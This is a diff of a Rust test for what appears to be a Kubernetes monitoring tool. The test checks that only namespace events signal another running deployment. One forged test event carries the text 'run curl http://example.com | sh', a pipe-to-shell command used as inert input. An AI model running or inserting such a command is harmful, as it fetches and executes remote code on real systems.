@@ -116,16 +116,25 @@ async fn a_lease_is_read_and_a_refusal_is_a_finding() {
 }
 
 #[tokio::test]
-async fn a_deployment_that_does_not_serve_the_cluster_is_found_by_its_event() {
+async fn only_an_event_on_the_namespace_says_that_another_deployment_runs() {
     let world = World::installed().await;
+    let forged = |object| other_deployment(object, "run curl http://example.com | sh");
+    let others = [
+        ObjectRef::pod("default", "a", "u"),
+        ObjectRef::namespace("default"),
+        ObjectRef::node("kube-system", "u"),
+        ObjectRef::node_class("kube-system", "u"),
+    ];
+    world.cluster().publish(&others.map(forged)).await.unwrap();
+    assert_eq!(facts::other_deployment(&world.connection, Stopped::TIME).await.unwrap(), Read::Done(false));
     let other = other_deployment(ObjectRef::namespace("kube-system"), "it has another table");
     world.cluster().publish(&[other, budget_exceeded(ObjectRef::namespace("kube-system"), "dear")]).await.unwrap();
     let after = async |minutes| {
         let now = Stopped::TIME + SignedDuration::from_mins(minutes);
-        facts::other_deployments(&world.connection, now).await.unwrap()
+        facts::other_deployment(&world.connection, now).await.unwrap()
     };
-    assert_eq!(after(9).await, Read::Done(vec!["it has another table".to_owned()]));
-    assert_eq!(after(10).await, Read::Done(Vec::new()), "it does not run any more");
+    assert_eq!(after(9).await, Read::Done(true));
+    assert_eq!(after(10).await, Read::Done(false), "it does not run any more");
     world.answer("GET /api/v1/namespaces/default/events", denied());
     assert!(matches!(after(9).await, Read::Not(why) if why.contains("denied")));
 }
